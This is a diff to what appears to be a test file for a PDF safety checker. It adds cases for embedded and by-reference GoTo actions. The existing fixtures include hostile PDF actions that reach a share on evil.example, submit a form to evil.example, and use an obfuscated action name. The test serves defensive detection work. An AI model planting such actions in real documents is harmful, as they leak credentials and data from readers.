@@ -26,6 +26,12 @@ describe('R27 a paper does nothing by itself and reaches nobody', () => {
     ['goes to a share', pdf('/AA<</O<</S/GoToE/F(\\\\\\\\evil.example\\\\x)/D[0/Fit]>>>>')],
     ['goes to another paper', pdf('/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\x)/D[0/Fit]>>')],
     ['goes there when pressed', withObjects('', '9 0 obj<</Type/Annot/A<</S/Go#54oR/F(x)>>>>endobj')],
+    // Without a file of its own: it names one by its place in this paper.
+    [
+      'goes to a paper inside it',
+      withObjects('', '9 0 obj<</Type/Annot/A<</S/GoToE/T<</R/C/N(x)>>>>>>endobj'),
+    ],
+    ['goes to one by reference', withObjects('', '9 0 obj<</Type/Annot/A<</S/GoToR/F 8 0 R>>>>endobj')],
     ['sends its form', pdf('/OpenAction<</S/SubmitForm/F(https://evil.example)>>')],
     ['fills its form from elsewhere', pdf('/OpenAction<</S/ImportData/F(x)>>')],
     [
